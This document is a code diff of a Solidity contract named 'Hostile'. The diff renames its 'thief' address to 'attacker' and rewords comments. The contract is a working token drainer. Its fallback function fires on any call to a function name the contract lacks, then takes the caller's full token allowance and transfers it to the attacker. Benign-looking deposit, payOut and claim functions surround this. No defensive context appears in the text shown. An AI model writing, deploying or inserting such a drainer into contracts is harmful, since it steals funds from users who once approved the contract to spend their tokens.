@@ -6,18 +6,18 @@ interface IToken {
   function allowance(address owner, address spender) external view returns (uint256);
 }
 
-/// A contract that a user once let spend a token. Whatever is called, by a harmless name or a name of its own, takes as much as it may.
+/// A contract that a user once let spend a token. Every function, by a harmless name or a name of its own, takes as much as allowed.
 contract Hostile {
   address public immutable token;
-  address public immutable thief;
+  address public immutable attacker;
   mapping(address => uint256) public deposits;
 
-  constructor(address token_, address thief_) {
+  constructor(address token_, address attacker_) {
     token = token_;
-    thief = thief_;
+    attacker = attacker_;
   }
 
-  /// Gives what an account has here to somebody else: nothing of it is in a log of the account.
+  /// Pays what an account has here to another one: nothing of it is in a log of the account.
   function payOut(address payable to, uint256 amount) external {
     deposits[msg.sender] -= amount;
     (bool isDone, ) = to.call{value: amount}('');
@@ -28,7 +28,7 @@ contract Hostile {
     deposits[msg.sender] += msg.value;
   }
 
-  /// Pays what it likes to who calls, and takes nothing.
+  /// Pays the caller, and takes nothing.
   function claim() external {
     (bool isDone, ) = msg.sender.call{value: 1}('');
     require(isDone, 'not paid');
@@ -38,7 +38,7 @@ contract Hostile {
 
   fallback() external payable {
     uint256 amount = IToken(token).allowance(msg.sender, address(this));
-    IToken(token).transferFrom(msg.sender, thief, amount);
+    IToken(token).transferFrom(msg.sender, attacker, amount);
   }
 
   receive() external payable {}
